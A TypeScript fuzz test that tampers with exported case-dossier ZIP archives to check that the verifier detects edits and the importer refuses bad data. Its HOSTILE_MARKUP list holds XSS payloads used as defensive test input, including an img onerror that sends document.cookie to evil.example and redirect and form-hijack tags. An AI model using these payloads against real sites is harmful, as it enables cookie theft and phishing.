import { isDeepStrictEqual } from 'node:util';
import fc from 'fast-check';
import { strToU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { createCase } from '@/lib/db/repos/cases';
import { recordSentDraft } from '@/lib/db/repos/drafts';
import { addEvidence } from '@/lib/db/repos/evidence';
import { addManualFact, remindAboutFact } from '@/lib/db/repos/facts';
import { recordMessages } from '@/lib/db/repos/messages';
import { exportCaseDossier } from '@/lib/dossier/case-export';
import { caseDossierEnvelopeSchema } from '@/lib/dossier/dossier-format';
import { DossierImportError, planImport, type ImportPlan, type ImportResult } from '@/lib/dossier/import';
import { verifyDossier, type DossierVerdict } from '@/lib/dossier/verify';
import { readZip } from '@/lib/dossier/zip-reader';
import { computeEventHash } from '@/lib/integrity/chain';
import { sha256HexOfBytes } from '@/lib/integrity/sha256';
import type { CaseEventRecord } from '@/lib/schemas/event';
import { decodeValue, dumpDatabase } from '../helpers/db-fixture';
import { testReport } from '../helpers/dossier-case';
import { freshRepo } from '../helpers/repo';
import { storedZip } from '../helpers/stored-zip';
import { createTally, fuzzAsync, timeoutFor } from './harness';
import { applyAll, expectClearRefusal, refusalLabel } from './import-checks';
import {
  applyArchiveMutation,
  archiveMutations,
  countJsonNodes,
  editJson,
  hostileNames,
  jsonEdit,
  leaf,
  withSums,
  type ArchiveMutation,
  type JsonEdit,
} from './zip-mutations';

type Env = Awaited<ReturnType<typeof freshRepo>>;
type Files = [string, Uint8Array][];

const PHONE = '+972 54-123-4567';

/**
 * The case every seed is exported from, and which the populated database holds too (freshRepo's
 * ids are predictable, so it has the same ids): a conflict for skip, replace and keep both. A second
 * case beside it is where a dossier's records must never land.
 */
async function populate(env: Env): Promise<{ env: Env; caseId: string; otherId: string }> {
  const { repo, clock } = env;
  const acme = await createCase(repo, { title: 'Acme <b>Shop</b> \u202Eevil', company: 'Acme', site: 'acme.example' });
  const message = (key: string, text: string, role: 'agent' | 'customer', seenAt: number) => ({
    key,
    role,
    authorName: role === 'agent' ? 'דנה \u2067Dana\u2069' : null,
    text,
    truncated: false,
    widgetTimeText: role === 'agent' ? '10:02' : null,
    fromHistory: false,
    seenAt,
  });
  const chat = { caseId: acme.id, site: 'acme.example', frameUrl: 'https://acme.example/', adapter: 'generic' };
  await recordMessages(repo, {
    ...chat,
    messages: [
      message('k1', 'שמי דנה, refund in 5 days \u202Bלקוח\u202C', 'agent', clock.now),
      message('k2', `Заказ 5531209, call me on ${PHONE}`, 'customer', clock.now + 1),
    ],
  });
  clock.now += 1000;
  // The widget edits the first message: the log records the revision.
  await recordMessages(repo, { ...chat, messages: [message('k1', 'שמי דנה, refund in 3 days', 'agent', clock.now)] });
  const fact = await addManualFact(repo, acme.id, 'order-number', '5531209');
  await remindAboutFact(repo, fact.id, clock.now + 86_400_000, 'הבטחה: refund');
  await recordSentDraft(
    repo,
    { caseId: acme.id, scenario: 'refund', locale: 'he', length: 'short', text: 'שלום, please refund order 5531209.' },
    'copied',
  );
  clock.now += 1000;
  await addEvidence(repo, acme.id, [
    {
      kind: 'screenshot',
      blob: new Blob([new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10, 1, 2])], { type: 'image/png' }),
    },
  ]);
  const other = await createCase(repo, { title: 'Other shop', company: 'Other', site: 'other.example' });
  return { env, caseId: acme.id, otherId: other.id };
}

interface Seed {
  name: 'full' | 'redacted';
  bytes: Uint8Array;
  files: Files;
  verdict: DossierVerdict;
}

let caseId: string;
let otherId: string;
/** The populated database as `populate` leaves it, restored for each case that needs a fresh one. */
let template: { dump: Awaited<ReturnType<typeof dumpDatabase>>; nextId: string; now: number };
const seeds = {} as Record<Seed['name'], Seed>;

async function exportBytes(env: Env, id: string, redacted = false): Promise<Uint8Array> {
  const result = await exportCaseDossier(env.repo, id, {
    appVersion: 'fuzz',
    renderReport: testReport,
    ...(redacted ? { redaction: { kinds: ['phone'], selected: ['דנה'], locale: 'he' } } : {}),
  });
  return new Uint8Array(await result.blob.arrayBuffer());
}

beforeAll(async () => {
  const seeded = await populate(await freshRepo());
  ({ caseId, otherId } = seeded);
  for (const name of ['full', 'redacted'] as const) {
    const bytes = await exportBytes(seeded.env, caseId, name === 'redacted');
    seeds[name] = { name, bytes, files: Object.entries(unzipSync(bytes)), verdict: verifyDossier(bytes) };
  }
  const { env } = await populate(await freshRepo());
  template = { dump: await dumpDatabase(env.db), nextId: env.repo.newId(), now: env.clock.now };
});

/** A database holding what `populate` writes, with the same ids, clock and next id (much faster). */
async function restorePopulated(): Promise<Env> {
  const env = await freshRepo();
  await env.db.transaction('rw', env.db.tables, async () => {
    for (const table of env.db.tables) await table.bulkPut(decodeValue(template.dump[table.name]) as unknown[]);
  });
  while (env.repo.newId() !== template.nextId);
  env.clock.now = template.now;
  return env;
}

/** How far someone covering an edit went: nothing, SHA256SUMS, or the manifest's digests and SHA256SUMS. */
type Reseal = 'none' | 'sums' | 'all';
type DossierFile = 'case.json' | 'events.json' | 'manifest.json';
const TEXT_FILES = ['SHA256SUMS', 'report.html', 'transcript.txt', 'transcript.csv', 'README.txt'] as const;
const ALL_FILES = ['case.json', 'events.json', 'manifest.json', ...TEXT_FILES] as const;

type TextEdit =
  | { op: 'insert'; at: number; text: string }
  | { op: 'delete'; at: number; length: number }
  | { op: 'line'; at: number; action: 'drop' | 'duplicate' | 'swap' }
  | { op: 'crlf' | 'bom' };

type ChainEdit =
  | { op: 'remove' | 'duplicate'; at: number }
  | { op: 'swap'; at: number; with: number }
  | { op: 'keep-first'; count: number }
  | { op: 'payload'; at: number; edit: JsonEdit }
  | { op: 'field'; at: number; field: 'seq' | 'at' | 'type' | 'caseId' | 'blobs'; value: unknown };

type Mutation =
  | ArchiveMutation
  | { kind: 'json'; file: DossierFile; edits: JsonEdit[]; reseal: Reseal }
  | { kind: 'text'; file: (typeof ALL_FILES)[number]; edit: TextEdit; reseal: Reseal }
  | {
      kind: 'file';
      file: (typeof ALL_FILES)[number] | 'screenshot';
      op: 'drop' | 'duplicate' | 'empty';
      reseal: Reseal;
    }
  | { kind: 'chain'; edits: ChainEdit[]; recompute: boolean; reseal: Reseal }
  | { kind: 'report'; markup: string; reseal: Reseal }
  | {
      kind: 'reparent';
      table: 'messages' | 'facts' | 'evidence' | 'drafts' | 'reminders';
      to: 'other-case' | 'unknown-case';
      reseal: Reseal;
    };

const HOSTILE_MARKUP = [
  '<script>alert(document.domain)</script>',
  '<img src=x onerror="fetch(`https://evil.example/?`+document.cookie)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<svg onload=alert(1)><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
  '<form action="https://evil.example/"><input name=card></form>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<!--',
  '<plaintext>',
  '\u202Eלמעלה\u0000\uD800',
];

const reseal = fc.constantFrom<Reseal>('none', 'sums', 'all');
const anyText = fc.oneof(
  fc.constantFrom(...HOSTILE_MARKUP, '\r\n', '\uFEFF', '  ', '*'),
  fc.string({ unit: 'binary', maxLength: 40 }),
);
const position = fc.nat({ max: 100_000 });

const textEdit: fc.Arbitrary<TextEdit> = fc.oneof(
  fc.record({ op: fc.constant('insert' as const), at: position, text: anyText }),
  fc.record({ op: fc.constant('delete' as const), at: position, length: fc.integer({ min: 1, max: 80 }) }),
  fc.record({
    op: fc.constant('line' as const),
    at: fc.nat({ max: 200 }),
    action: fc.constantFrom('drop' as const, 'duplicate' as const, 'swap' as const),
  }),
  fc.record({ op: fc.constantFrom('crlf' as const, 'bom' as const) }),
);

const eventIndex = fc.nat({ max: 40 });
const chainEdit: fc.Arbitrary<ChainEdit> = fc.oneof(
  fc.record({ op: fc.constantFrom('remove' as const, 'duplicate' as const), at: eventIndex }),
  fc.record({ op: fc.constant('swap' as const), at: eventIndex, with: eventIndex }),
  fc.record({ op: fc.constant('keep-first' as const), count: eventIndex }),
  fc.record({ op: fc.constant('payload' as const), at: eventIndex, edit: jsonEdit }),
  fc.record({
    op: fc.constant('field' as const),
    at: eventIndex,
    field: fc.constantFrom('seq' as const, 'at' as const, 'type' as const, 'caseId' as const, 'blobs' as const),
    value: fc.oneof(leaf, fc.constantFrom(0, 1, 7, 'message.recorded', 'export.made', 'id-000099', 'id-000001')),
  }),
);

function weighted<T>(weight: number, fields: { [K in keyof T]: fc.Arbitrary<T[K]> }) {
  return { arbitrary: fc.record(fields), weight };
}

/**
 * Archive damage once each (the backup target covers it too, and it rarely gets past the ZIP
 * reader); the dossier's own edits, which reach the verifier's checks and the import, more often.
 */
const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  ...archiveMutations(hostileNames('case.json', 'screenshots'), 'screenshots/extra.png'),
  weighted(4, {
    kind: fc.constant('json' as const),
    file: fc.constantFrom<DossierFile>('case.json', 'events.json', 'manifest.json'),
    edits: fc.array(jsonEdit, { minLength: 1, maxLength: 3 }),
    reseal,
  }),
  weighted(4, { kind: fc.constant('text' as const), file: fc.constantFrom(...ALL_FILES), edit: textEdit, reseal }),
  weighted(2, {
    kind: fc.constant('file' as const),
    file: fc.constantFrom(...ALL_FILES, 'screenshot' as const),
    op: fc.constantFrom('drop' as const, 'duplicate' as const, 'empty' as const),
    reseal,
  }),
  weighted(4, {
    kind: fc.constant('chain' as const),
    edits: fc.array(chainEdit, { minLength: 1, maxLength: 3 }),
    recompute: fc.boolean(),
    reseal,
  }),
  fc.record({
    kind: fc.constant('report' as const),
    markup: fc
      .array(fc.oneof(fc.constantFrom(...HOSTILE_MARKUP), fc.string({ maxLength: 20 })), { maxLength: 6 })
      .map((parts) => parts.join('')),
    reseal,
  }),
  fc.record({
    kind: fc.constant('reparent' as const),
    table: fc.constantFrom(
      'messages' as const,
      'facts' as const,
      'evidence' as const,
      'drafts' as const,
      'reminders' as const,
    ),
    to: fc.constantFrom('other-case' as const, 'unknown-case' as const),
    reseal,
  }),
);

const decoder = new TextDecoder();
const decode = (bytes: Uint8Array | undefined) => decoder.decode(bytes);
const parse = (bytes: Uint8Array | undefined): unknown => {
  try {
    return JSON.parse(decode(bytes)) as unknown;
  } catch {
    return undefined;
  }
};
const encodeJson = (value: unknown) => strToU8(JSON.stringify(value, null, 2) ?? '');
const isObject = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value);

function replaceFile(files: Files, name: string, bytes: Uint8Array): Files {
  return files.map(([path, data]): [string, Uint8Array] => [path, path === name ? bytes : data]);
}

/** Covers the edits as far as `level` says: the manifest's sizes and digests, then SHA256SUMS. */
function resealed(files: Files, level: Reseal): Files {
  if (level === 'none') return files;
  let out = files;
  if (level === 'all') {
    const manifest = parse(files.find(([path]) => path === 'manifest.json')?.[1]);
    if (isObject(manifest) && Array.isArray(manifest.files)) {
      const present = new Map(files);
      manifest.files = manifest.files.flatMap((entry: unknown) => {
        if (!isObject(entry) || typeof entry.path !== 'string') return [entry];
        const data = present.get(entry.path);
        return data ? [{ ...entry, size: data.length, sha256: sha256HexOfBytes(data) }] : [];
      });
      out = replaceFile(files, 'manifest.json', encodeJson(manifest));
    }
  }
  return withSums(out);
}

function editText(text: string, edit: TextEdit): string {
  const at = (n: number) => n % (text.length + 1);
  switch (edit.op) {
    case 'insert':
      return text.slice(0, at(edit.at)) + edit.text + text.slice(at(edit.at));
    case 'delete':
      return text.slice(0, at(edit.at)) + text.slice(at(edit.at) + edit.length);
    case 'line': {
      const lines = text.split('\n');
      const i = edit.at % lines.length;
      if (edit.action === 'drop') lines.splice(i, 1);
      else if (edit.action === 'duplicate') lines.splice(i, 0, lines[i]!);
      else if (i + 1 < lines.length) [lines[i], lines[i + 1]] = [lines[i + 1]!, lines[i]!];
      return lines.join('\n');
    }
    case 'crlf':
      return text.replaceAll('\n', '\r\n');
    case 'bom':
      return `\uFEFF${text}`;
  }
}

/** The events with one edit; their hashes and links are left as they were. */
function editChain(events: CaseEventRecord[], edit: ChainEdit): CaseEventRecord[] {
  const out = [...events];
  if (out.length === 0) return out;
  const i = 'at' in edit ? edit.at % out.length : 0;
  switch (edit.op) {
    case 'remove':
      out.splice(i, 1);
      break;
    case 'duplicate':
      out.splice(i, 0, structuredClone(out[i]!));
      break;
    case 'swap': {
      const j = edit.with % out.length;
      [out[i], out[j]] = [out[j]!, out[i]!];
      break;
    }
    case 'keep-first':
      out.length = Math.min(out.length, edit.count);
      break;
    case 'payload': {
      const payload = out[i]!.payload;
      const at = edit.edit.at % countJsonNodes(payload);
      out[i] = { ...out[i]!, payload: editJson(payload, { ...edit.edit, at }) as CaseEventRecord['payload'] };
      break;
    }
    case 'field':
      out[i] = { ...out[i]!, [edit.field]: edit.value } as CaseEventRecord;
  }
  return out;
}

/** Renumbers, relinks and re-hashes the events, and states the new root and count everywhere. */
function rehashed(files: Files, events: CaseEventRecord[]): Files {
  let prevHash: string | null = null;
  const relinked = events.map((event, seq) => {
    const next = { ...event, seq, prevHash };
    let hash = event.hash;
    try {
      hash = computeEventHash(next);
    } catch {
      // An event canonical JSON refuses (a lone surrogate) keeps its old hash: it cannot match.
    }
    prevHash = hash;
    return { ...next, hash };
  });
  const claim = { rootHash: prevHash, eventCount: relinked.length };
  let out = files;
  const events_ = parse(new Map(files).get('events.json'));
  if (isObject(events_)) out = replaceFile(out, 'events.json', encodeJson({ ...events_, ...claim, events: relinked }));
  const envelope = parse(new Map(files).get('case.json'));
  if (isObject(envelope) && isObject(envelope.data) && isObject(envelope.data.log)) {
    envelope.data.log = { ...envelope.data.log, ...claim };
    out = replaceFile(out, 'case.json', encodeJson(envelope));
  }
  const manifest = parse(new Map(files).get('manifest.json'));
  if (isObject(manifest) && isObject(manifest.log)) {
    manifest.log = { ...manifest.log, ...claim };
    out = replaceFile(out, 'manifest.json', encodeJson(manifest));
  }
  return out;
}

function build(seed: Seed, m: Mutation): Uint8Array {
  const { files } = seed;
  const get = (name: string) => new Map(files).get(name);
  const zip = (out: Files) => storedZip(out.map(([name, data]) => ({ name, data })));
  switch (m.kind) {
    case 'json': {
      let value = parse(get(m.file));
      for (const edit of m.edits) value = editJson(value, { ...edit, at: edit.at % countJsonNodes(value) });
      return zip(resealed(replaceFile(files, m.file, encodeJson(value)), m.reseal));
    }
    case 'text':
      return zip(resealed(replaceFile(files, m.file, strToU8(editText(decode(get(m.file)), m.edit))), m.reseal));
    case 'report':
      return zip(resealed(replaceFile(files, 'report.html', strToU8(m.markup)), m.reseal));
    case 'file': {
      const name = m.file === 'screenshot' ? files.find(([path]) => path.startsWith('screenshots/'))![0] : m.file;
      if (m.op === 'empty') return zip(resealed(replaceFile(files, name, new Uint8Array(0)), m.reseal));
      if (m.op === 'drop')
        return zip(
          resealed(
            files.filter(([path]) => path !== name),
            m.reseal,
          ),
        );
      // The same name twice, after resealing (so only the repeated name is wrong).
      const out = resealed(files, m.reseal);
      return zip([...out, [name, get(name)!]]);
    }
    case 'chain': {
      const eventsFile = parse(get('events.json')) as { events: CaseEventRecord[] };
      let events = eventsFile.events;
      for (const edit of m.edits) events = editChain(events, edit);
      const out = m.recompute
        ? rehashed(files, events)
        : replaceFile(files, 'events.json', encodeJson({ ...eventsFile, events }));
      return zip(resealed(out, m.reseal));
    }
    case 'reparent': {
      const envelope = parse(get('case.json')) as { data: Record<string, { caseId: string | null }[]> };
      const rows = envelope.data[m.table]!;
      rows[rows.length - 1] = { ...rows[rows.length - 1]!, caseId: m.to === 'other-case' ? otherId : 'id-999999' };
      return zip(resealed(replaceFile(files, 'case.json', encodeJson(envelope)), m.reseal));
    }
    default:
      return applyArchiveMutation(m, seed.bytes, files);
  }
}

const sameBytes = (a: Uint8Array | undefined, b: Uint8Array | undefined) =>
  a !== undefined && b !== undefined && Buffer.from(a.buffer, a.byteOffset, a.length).equals(b);

/**
 * What the verifier must say of an archive, from its bytes alone: the seed's verdict when the files
 * are the seed's; "not intact" when it cannot be read, when a file changed (or was added or
 * removed) and SHA256SUMS was left as it was, or when a file the manifest lists changed and the
 * manifest was left as it was; either verdict once both were rewritten (a forger's reseal).
 */
function expectedVerdict(seed: Seed, bytes: Uint8Array): 'same-as-seed' | 'not-intact' | 'either' {
  let files: Map<string, Uint8Array>;
  try {
    files = readZip(bytes);
  } catch {
    return 'not-intact';
  }
  const original = new Map(seed.files);
  const changed = [...new Set([...files.keys(), ...original.keys()])].filter(
    (path) => !sameBytes(files.get(path), original.get(path)),
  );
  if (changed.length === 0) return 'same-as-seed';
  if (!changed.includes('SHA256SUMS')) return 'not-intact';
  if (!changed.includes('manifest.json') && changed.some((path) => path !== 'SHA256SUMS')) return 'not-intact';
  return 'either';
}

/** Every record of the database that names a case names one that is there (read from the indexes). */
async function expectNoOrphans({ db }: Env): Promise<void> {
  const cases = new Set(await db.cases.toCollection().primaryKeys());
  const tables = [db.messages, db.evidence, db.facts, db.drafts, db.reminders];
  const named = [
    ...(await Promise.all(tables.map((table) => table.orderBy('caseId').uniqueKeys()))).flat(),
    ...(await db.events.orderBy('[caseId+seq]').uniqueKeys()).map((key) => (Array.isArray(key) ? key[0] : key)),
  ];
  for (const caseId of named) expect(cases).toContain(caseId);
}

/**
 * Imported: what the database now holds is valid. Each case written exports a dossier that
 * verifies and holds what the plan said (so no record went to another case); nothing is orphaned.
 */
async function expectValidResult(env: Env, plan: ImportPlan, result: ImportResult): Promise<void> {
  const written = [
    ...result.imported.map((id) => ({ id, planned: plan.cases.find((c) => c.id === id)!, copy: false })),
    ...result.copies.map(({ from, to }) => ({ id: to, planned: plan.cases.find((c) => c.id === from)!, copy: true })),
  ];
  expect(written.length + result.skipped.length).toBe(plan.cases.length);
  await expectNoOrphans(env);
  for (const { id, planned, copy } of written) {
    const bytes = await exportBytes(env, id);
    const verdict = verifyDossier(bytes);
    expect(verdict.problems).toEqual([]);
    const { data } = caseDossierEnvelopeSchema.parse(JSON.parse(decode(unzipSync(bytes)['case.json'])));
    const { events, ...counts } = planned.counts;
    expect({
      messages: data.messages.length,
      evidence: data.evidence.length,
      facts: data.facts.length,
      drafts: data.drafts.length,
      reminders: data.reminders.length,
    }).toEqual(counts);
    // A copy starts a log of its own: case.created, then one item.moved-in per message and file.
    expect(data.log.eventCount).toBe(copy ? 1 + counts.messages + counts.evidence : events);
  }
}

describe('fuzz: case dossier importer and verifier', () => {
  it('the unmutated dossier verifies and imports; its redacted copy verifies and is refused by name', async () => {
    expect(seeds.full.verdict.problems).toEqual([]);
    expect(seeds.redacted.verdict.ok).toBe(true);
    expect(seeds.redacted.verdict.summary.redaction?.events.length).toBeGreaterThan(0);
    const env = await freshRepo();
    const plan = await planImport(seeds.full.bytes, env.repo);
    await expectValidResult(env, plan, await applyAll(env.repo, plan, 'skip'));

    const target = await freshRepo();
    const before = await dumpDatabase(target.db);
    const refusal = await planImport(seeds.redacted.bytes, target.repo).catch((e: unknown) => e);
    expect(refusal).toBeInstanceOf(DossierImportError);
    expect(refusal).toMatchObject({ code: 'redacted', message: expect.stringMatching(/redacted copy/) });
    expect(await dumpDatabase(target.db)).toEqual(before);
    // The stored-ZIP writer the entry mutations use is a valid archive too.
    expect(verifyDossier(storedZip(seeds.full.files.map(([name, data]) => ({ name, data })))).ok).toBe(true);
  });

  it(
    'mutated dossiers verify without throwing, and import valid data or are refused with a clear error, the database untouched',
    async () => {
      const tally = createTally();
      // Each database with its dump, taken once: a case that writes nothing leaves it as it was
      // (checked), and one that imports is followed by a fresh database.
      type Target = { env: Env; dump: Awaited<ReturnType<typeof dumpDatabase>> };
      const envs: Record<'empty' | 'populated', Target | null> = { empty: null, populated: null };
      /** The database as it was before the case; a changed one is not used again (nor its dump). */
      const expectUntouched = async (target: 'empty' | 'populated') => {
        const { env, dump } = envs[target]!;
        const after = await dumpDatabase(env.db);
        if (isDeepStrictEqual(after, dump)) return;
        envs[target] = null;
        expect(after).toEqual(dump);
      };
      const envFor = async (target: 'empty' | 'populated'): Promise<Target> => {
        if (envs[target]) return envs[target];
        const env = target === 'empty' ? await freshRepo() : await restorePopulated();
        return (envs[target] = { env, dump: await dumpDatabase(env.db) });
      };
      await fuzzAsync(
        'dossier-import',
        fc.asyncProperty(
          fc.oneof(
            { arbitrary: fc.constant('full' as const), weight: 4 },
            { arbitrary: fc.constant('redacted' as const), weight: 1 },
          ),
          mutation,
          fc.constantFrom('empty' as const, 'populated' as const),
          fc.constantFrom('skip' as const, 'replace' as const, 'keep-both' as const),
          async (seedName, m, target, choice) => {
            const seed = seeds[seedName];
            const bytes = build(seed, m);

            let verdict: DossierVerdict | undefined;
            expect(() => (verdict = verifyDossier(bytes))).not.toThrow();
            verdict = verdict!;
            expect(verdict.ok).toBe(verdict.problems.length === 0);
            for (const problem of verdict.problems) expect(problem.detail.length).toBeGreaterThan(10);
            const expected = expectedVerdict(seed, bytes);
            if (expected === 'same-as-seed') expect(verdict.ok).toBe(seed.verdict.ok);
            if (expected === 'not-intact') expect(verdict.ok).toBe(false);
            // An event changed and not re-hashed never passes (a redacted copy's listed events excepted).
            if (m.kind === 'chain' && !m.recompute && seed.name === 'full' && expected !== 'same-as-seed') {
              expect(verdict.ok).toBe(false);
            }
            tally.add(`${seed.name} ${verdict.ok ? 'verifies' : 'does not verify'}`);

            const { env } = await envFor(target);
            let plan;
            try {
              plan = await planImport(bytes, env.repo);
            } catch (error) {
              expectClearRefusal(error);
              if (seed.name === 'redacted' && expected === 'same-as-seed') {
                expect(error).toMatchObject({ code: 'redacted' });
              }
              tally.add(refusalLabel(error));
              await expectUntouched(target);
              return;
            }
            // The importer takes only what its receiver would accept as an intact, unredacted dossier.
            expect(verdict.problems).toEqual([]);
            expect(verdict.summary.redaction).toBeNull();
            // Repeated names are ambiguous (readers disagree on which entry counts): never imported.
            expect(m.kind === 'duplicate' || (m.kind === 'file' && m.op === 'duplicate')).toBe(false);
            tally.add('planned');
            let result;
            try {
              result = await applyAll(env.repo, plan, choice);
            } catch (error) {
              expectClearRefusal(error);
              tally.add(refusalLabel(error));
              await expectUntouched(target);
              return;
            }
            if (result.skipped.length === plan.cases.length) {
              tally.add('skipped');
              await expectUntouched(target);
              return;
            }
            tally.add(`imported (${target}, ${choice})`);
            envs[target] = null;
            await expectValidResult(env, plan, result);
            await env.db.delete();
          },
        ),
      );
      tally.print('dossier-import');
    },
    timeoutFor(120),
  );
});
